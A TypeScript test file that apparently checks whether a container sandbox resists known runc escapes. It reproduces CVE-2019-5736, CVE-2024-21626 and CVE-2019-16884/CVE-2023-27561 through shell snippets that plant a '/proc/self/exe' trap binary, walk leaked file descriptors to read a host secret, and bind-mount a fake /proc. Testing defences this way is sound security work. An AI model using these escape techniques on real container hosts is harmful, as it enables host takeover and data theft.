import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmod, mkdtemp, open, readFile, readdir, readlink, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll } from 'vitest';
import { pidsBelow } from '../checker/kernel-process.ts';
import { execute } from '../engine/execute.ts';
import { relayProgram } from '../host/native-programs.ts';
import { run } from '../host/run.ts';
import { ensureShell } from '../keeper/terminal.ts';
import { viewpoints } from '../testing/viewpoints.ts';
import { useGrounds } from './grounds.ts';
import { findProbes } from './programs.ts';
import { technique } from './technique.ts';

const grounds = useGrounds({ probes: ['exec-watch'] });
const onDockerHost = viewpoints.slice(0, 1);

/** A file of the machine that everybody may read: only where it is keeps it away. */
let folder: string;
const secret = 'text of the machine';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'schott-runtime-'));
  await chmod(folder, 0o755);
  await writeFile(join(folder, 'secret'), secret);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

technique(
  'the programs that come in from outside (runc, relay), overwritten or used as a way out while they do',
  { reference: 'CVE-2019-5736' },
  async (viewpoint) => {
    const { parts } = grounds.sandbox;
    const programs = [
      (await run('sh', ['-c', 'command -v runc'])).trim(),
      await relayProgram(),
      join(grounds.bench.place.instance.runtimeDirectory, 'schott-runtime'),
    ];
    const hashes = (): Promise<string[]> =>
      Promise.all(
        programs.map(async (program) =>
          createHash('sha256')
            .update(await readFile(program))
            .digest('hex'),
        ),
      );
    const before = await hashes();
    // The engine's exec finds this instead of its command: whoever executes it executes itself, inside.
    const watching = grounds.lines(
      viewpoint,
      `${findProbes}
     trap='/usr/local/sbin/timeout'; [ -d /host/etc ] && trap=/host$trap
     printf '#!/proc/self/exe\\n' > $trap && chmod 755 $trap
     $probes/exec-watch 5 ${folder}/secret
     rm -f $trap`,
    );
    const isDone = watching.then(() => true);
    for (let round = 0; round < 40 && !(await Promise.race([isDone, sleep(100)])); round++) {
      await execute(parts.dockerHost, ['true'], { timeoutMs: 2000 }).catch(() => undefined);
      await (await parts.relay('dockerhost')).connectUnix('/run/docker.sock').then(
        ({ socket }) => socket.destroy(),
        () => undefined,
      );
    }
    const lines = await watching;
    const after = await hashes();
    return {
      reached: [
        ...lines.filter((line) => line.startsWith('opened ') || line.startsWith('read ')),
        ...programs.filter((_program, index) => before[index] !== after[index]),
      ],
      control: lines.find((line) => line.startsWith('saw runc') || line.includes('memfd:')),
      refusal: lines.filter((line) => line.startsWith('refused ')).join(', '),
    };
  },
);

technique(
  'open files and folders of the machine, left to what the engine starts inside',
  { reference: 'CVE-2024-21626', viewpoints: onDockerHost },
  async () => {
    const { sandbox } = grounds;
    await Promise.all([ensureShell(sandbox.parts, 'dockerhost'), ensureShell(sandbox.parts, 'attacker'), sandbox.run('sleep 3 > /dev/null 2>&1 &')]);
    const leaks = (await Promise.all((await pidsBelow(sandbox.cgroup)).map(strangeFiles))).flat();
    const folders = (await sandbox.run('for process in /proc/[0-9]*; do readlink $process/cwd $process/root; done')).output.split('\n');
    // The control: a process that is given such a file is found.
    await using file = await open(folder);
    const leaky = spawn('nsenter', [`--mount=/proc/${sandbox.parts.dockerHostPid}/ns/mnt`, 'sleep', '20'], { stdio: ['ignore', 'ignore', 'ignore', file.fd] });
    try {
      await sleep(300);
      const found = leaky.pid === undefined ? [] : await strangeFiles(leaky.pid);
      return {
        reached: [...leaks, ...folders.filter((link) => link.startsWith('(unreachable)'))],
        control: found.length === 1 && folders.includes('/root') ? `a file left on purpose is found: ${found[0]?.replace(folder, 'FOLDER')}` : undefined,
        refusal: 'none',
      };
    } finally {
      leaky.kill();
    }
  },
);

technique('a working directory that leads to a file left open (/proc/self/fd)', { reference: 'CVE-2024-21626', viewpoints: onDockerHost }, async () => {
  const { sandbox } = grounds;
  const { dockerHost } = sandbox.parts;
  // As the keeper starts a shell: in /root, which is the learner's.
  const attempt = async (target: string): Promise<string> => {
    await sandbox.run(`ln -sfn ${target} /root.link; mountpoint -q /root || true`);
    const { output } = await execute(dockerHost, ['sh', '-c', `cat ../../../../../../..${folder}/secret 2> /dev/null; pwd`], {
      directory: '/root.link',
      timeoutMs: 5000,
    }).catch((error: unknown) => ({ output: String(error) }));
    return output.trim();
  };
  const control = await attempt('/srv');
  const reached: string[] = [];
  let refusal = '';
  for (let number = 3; number <= 14; number++) {
    const output = await attempt(`/proc/self/fd/${number}`);
    if (output.includes(secret)) reached.push(`file ${number}`);
    refusal = output;
  }
  return { reached, control: control === '/srv' ? 'a link to a folder of its own works' : undefined, refusal: refusal.slice(0, 160) };
});

technique("a /proc of one's own making, for those who come in", { reference: 'CVE-2019-16884, CVE-2023-27561', viewpoints: onDockerHost }, async () => {
  const { sandbox } = grounds;
  const isWell = async (): Promise<boolean> => (await sandbox.run('docker run --rm lab/bb echo alive').catch(() => ({ output: '' }))).output.trim() === 'alive';
  const wasWell = await isWell();
  await sandbox.run(
    `mkdir -p /tmp/fake/self/attr /tmp/fake/self/fd /tmp/fake/sys; cp /proc/self/mountinfo /tmp/fake/self/mountinfo; : > /tmp/target; chmod 666 /tmp/target
     for file in self/attr/exec self/attr/apparmor/exec self/setgroups self/oom_score_adj self/loginuid sysrq-trigger; do mkdir -p $(dirname /tmp/fake/$file); ln -sfn /tmp/target /tmp/fake/$file; done
     mount --bind /tmp/fake /proc; (sleep 2; umount -l /proc) > /dev/null 2>&1 &`,
  );
  const during = await execute(sandbox.parts.dockerHost, ['true'], { timeoutMs: 1000 }).then(
    ({ exitCode, output }) => `exit status ${exitCode} ${output}`,
    String,
  );
  await sleep(2500);
  const { output } = await sandbox.run('cat /tmp/target');
  return {
    reached: output.trim() === '' ? [] : [`wrote into a file of the learner's choice: ${output.trim()}`],
    control: wasWell && (await isWell()) ? 'the sandbox works before and after' : undefined,
    refusal: during.trim().slice(0, 160),
  };
});

/** Files with a path that a process holds although its mount namespace has no such mount. */
async function strangeFiles(pid: number): Promise<string[]> {
  const mounts = await readFile(`/proc/${pid}/mountinfo`, 'utf8').catch(() => '');
  const known = new Set(mounts.split('\n').map((line) => line.split(' ')[0]));
  const numbers = mounts === '' ? [] : await readdir(`/proc/${pid}/fd`).catch(() => []);
  const held = await Promise.all(
    numbers.map(async (number) => {
      const [link, facts] = await Promise.all([readlink(`/proc/${pid}/fd/${number}`), readFile(`/proc/${pid}/fdinfo/${number}`, 'utf8')]).catch(() => ['', '']);
      const mount = /^mnt_id:\s*(\d+)/m.exec(facts ?? '')?.[1];
      // The input of what nobody speaks to: a device that everybody has.
      return link?.startsWith('/') && !link.startsWith('/memfd:') && link !== '/dev/null' && mount !== undefined && !known.has(mount)
        ? [`${link} in process ${pid}`]
        : [];
    }),
  );
  return held.flat();
}
